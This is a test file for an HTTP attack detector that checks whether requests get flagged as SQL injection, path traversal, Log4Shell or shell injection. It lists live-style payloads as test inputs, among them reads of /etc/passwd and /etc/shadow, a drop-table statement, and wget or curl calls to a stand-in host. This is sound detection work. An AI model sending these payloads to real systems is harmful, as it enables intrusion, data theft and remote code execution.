// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what attackers send is so written.

import { describe, expect, it } from 'vitest';
import { corpusIsThere } from '../tshark/corpus.js';
import { type Exchange, exchange } from './http-requests.js';
import { evidenceOf, findingsOf, idsOf } from './support.js';

const idsFor = async (it: Exchange) => idsOf(await findingsOf(exchange(it)));

describe('SQL injection in a request', () => {
  it.each([
    ["/item?id=1' OR '1'='1", 'tautology'],
    ['/item?id=1%27+or+1%3D1--+-', 'tautology'],
    ['/item?id=1)+AND+4218=4218', 'tautology'],
    ['/item?id=1+or+1=1', 'tautology'],
    ['/item?id=-1+UNION+ALL+SELECT+null,version()', 'union-select'],
    ['/item?id=-1/**/union/*x*/select/**/1', 'union-select'],
    ['/item?id=1%2527%2520union%2520select%25201', 'union-select'],
    ["/item?id=1';WAITFOR+DELAY+'0:0:5'--", 'time-delay'],
    ['/item?id=1+and+sleep(5)', 'time-delay'],
    ["/item?id=1';drop+table+users;--", 'stacked-statement'],
    ['/item?id=1+and+(select+count(*)+from+information_schema.tables)>0', 'schema-query'],
    ["/item?id=1'+order+by+10--+", 'order-by-probe'],
    ["/login?user=admin'--", 'comment-cut'],
  ])('is a finding: %s', async (target, pattern) => {
    const findings = await findingsOf(exchange({ target }));
    expect(idsOf(findings)).toEqual(['http.sql-injection']);
    expect(evidenceOf(findings[0], 'pattern')).toBe(pattern);
  });

  it.each([
    "/people?name=O'Brien",
    '/search?q=student+union+select+committee',
    "/search?q=rock+'n'+roll+or+jazz",
    '/list?sort=name&order=desc&from=10',
    '/a?filter=price%3D10+or+price%3D20',
    '/select?union=1',
    "/q?t=don't+--+really",
    '/report?year=2024+and+2025',
  ])('is none where there is no SQL: %s', async (target) => {
    expect(await idsFor({ target })).toEqual([]);
  });

  it('is also looked for in headers that servers log', async () => {
    const headers = ["X-Forwarded-For: 127.0.0.1' or '1'='1"];
    const findings = await findingsOf(exchange({ headers }));
    expect(idsOf(findings)).toEqual(['http.sql-injection']);
    expect(evidenceOf(findings[0], 'field')).toBe('xForwardedFor');
  });
});

describe('path traversal in a request', () => {
  it.each([
    '/../../../../etc/passwd',
    '/show?file=..%2f..%2f..%2fapp.conf',
    '/show?file=....//../etc/passwd',
    '/scripts/..%c0%af../winnt/system32/cmd.exe',
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts',
    '/show?file=%252e%252e%255c%252e%252e%255c%252e%252e%255cboot.ini',
    '/show?file=/etc/shadow',
    '/show?page=php://filter/convert.base64-encode/resource=index',
  ])('is a finding: %s', async (target) => {
    expect(await idsFor({ target })).toContain('http.path-traversal');
  });

  it.each([
    '/docs/etc/passwd-policy.html',
    '/a/b/../c.css',
    '/img?src=../logo.png',
    '/wiki/Proc/self',
    '/search?q=etc+passwd',
    '/v1...v2/compare',
  ])('is none for ordinary paths: %s', async (target) => {
    expect(await idsFor({ target })).toEqual([]);
  });

  const target = '/show?file=../../../../etc/passwd';

  it('is high where the answer is no page', async () => {
    const [finding] = await findingsOf(
      exchange({ target, body: 'root:x:0:0:root:/root:/bin/sh\n' }),
    );
    expect(finding).toMatchObject({ id: 'http.path-traversal', severity: 'high' });
    expect(evidenceOf(finding, 'outcome')).toBe('answered');
  });

  it('is low where the server refused', async () => {
    const [finding] = await findingsOf(exchange({ target, status: 404, body: 'no\n' }));
    expect(finding).toMatchObject({ severity: 'low' });
    expect(evidenceOf(finding, 'outcome')).toBe('refused');
  });
});

describe('Log4Shell in a request', () => {
  it.each([
    '${jndi:ldap://192.0.2.7:1389/a}',
    '${${lower:j}ndi:${lower:l}dap://192.0.2.7/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.7/a}',
    '${j${env:NOTHING:-n}di:dns://x.example/a}',
  ])('is a finding in a header: %s', async (lookup) => {
    const findings = await findingsOf(exchange({ headers: [`User-Agent: ${lookup}`] }));
    expect(idsOf(findings)).toEqual(['http.log4shell']);
    expect(evidenceOf(findings[0], 'field')).toBe('userAgent');
    expect(evidenceOf(findings[0], 'matched')).toMatch(/^\$\{jndi:/);
  });

  it('is a finding in the target, encoded', async () => {
    const target = '/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.7%2Fa%7D';
    expect(await idsFor({ target })).toEqual(['http.log4shell']);
  });

  it.each(['/?q=jndi:ldap', '/?template=${name}'])('is none for other text: %s', async (target) => {
    expect(await idsFor({ target })).toEqual([]);
  });
});

describe('commands in a request', () => {
  it.each([
    '/ping?host=127.0.0.1;cat+/etc/group',
    '/ping?host=%3Bid',
    '/ping?host=127.0.0.1%7Cwget+http://192.0.2.7/x.sh',
    '/x?a=$(curl+http://192.0.2.7)',
    '/x?a=%60id%60',
    '/shell?cd+/tmp;wget${IFS}http://192.0.2.7/m',
    '/cgi-bin/x?..%2f..%2fbin%2fsh',
    '/x.php?-d+allow_url_include%3d1',
    '/?x=%{(#context=1)}',
  ])('are a finding: %s', async (target) => {
    expect(await idsFor({ target })).toContain('http.shell-injection');
  });

  it('are one in a header that a shell reads (Shellshock)', async () => {
    const headers = ['User-Agent: () { :; }; echo vulnerable'];
    expect(await idsFor({ headers })).toEqual(['http.shell-injection']);
  });

  it.each([
    '/list?id=5&cat=3&sh=1&type=a',
    '/css?family=Open+Sans|Roboto',
    '/fields?names=name|id|type',
    '/a;jsessionid=?x=1;y=2',
    '/search?q=cat+food;+dog+food',
    '/p?price=$(5)',
    '/usr/bin/index.html',
  ])('are none where it is ordinary: %s', async (target) => {
    expect(await idsFor({ target })).toEqual([]);
  });

  it('are none in the headers of browsers', async () => {
    const headers = [
      'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
      'Referer: http://www.example/a?b=1;c=2&d=%27x%27',
      'Content-Type: multipart/form-data; boundary=----x',
    ];
    expect(await idsFor({ method: 'POST', headers })).toEqual([]);
  });
});

it('evidence of an attack is cut, whatever the length of the request', async () => {
  const target = `/?x=${'a'.repeat(3000)}&y=1'+or+'1'='1`;
  const [finding] = await findingsOf(exchange({ target }));
  for (const { value } of finding?.evidence ?? []) expect(String(value).length).toBeLessThan(201);
});

describe.skipIf(!corpusIsThere)('in the shared captures', () => {
  it('SQL injection is found in a session of it', async () => {
    const findings = await findingsOf('../shared/captures/malware-attack/WebattackSQLinj.pcap');
    expect(findings).toMatchObject([{ id: 'http.sql-injection', count: 7 }]);
  });

  it('what Nikto tries is found', async () => {
    const findings = await findingsOf('../shared/captures/malware-attack/WebattackRCE.pcap');
    expect(idsOf(findings)).toEqual([
      'http.path-traversal',
      'http.scanner-user-agent',
      'http.shell-injection',
    ]);
  });
});
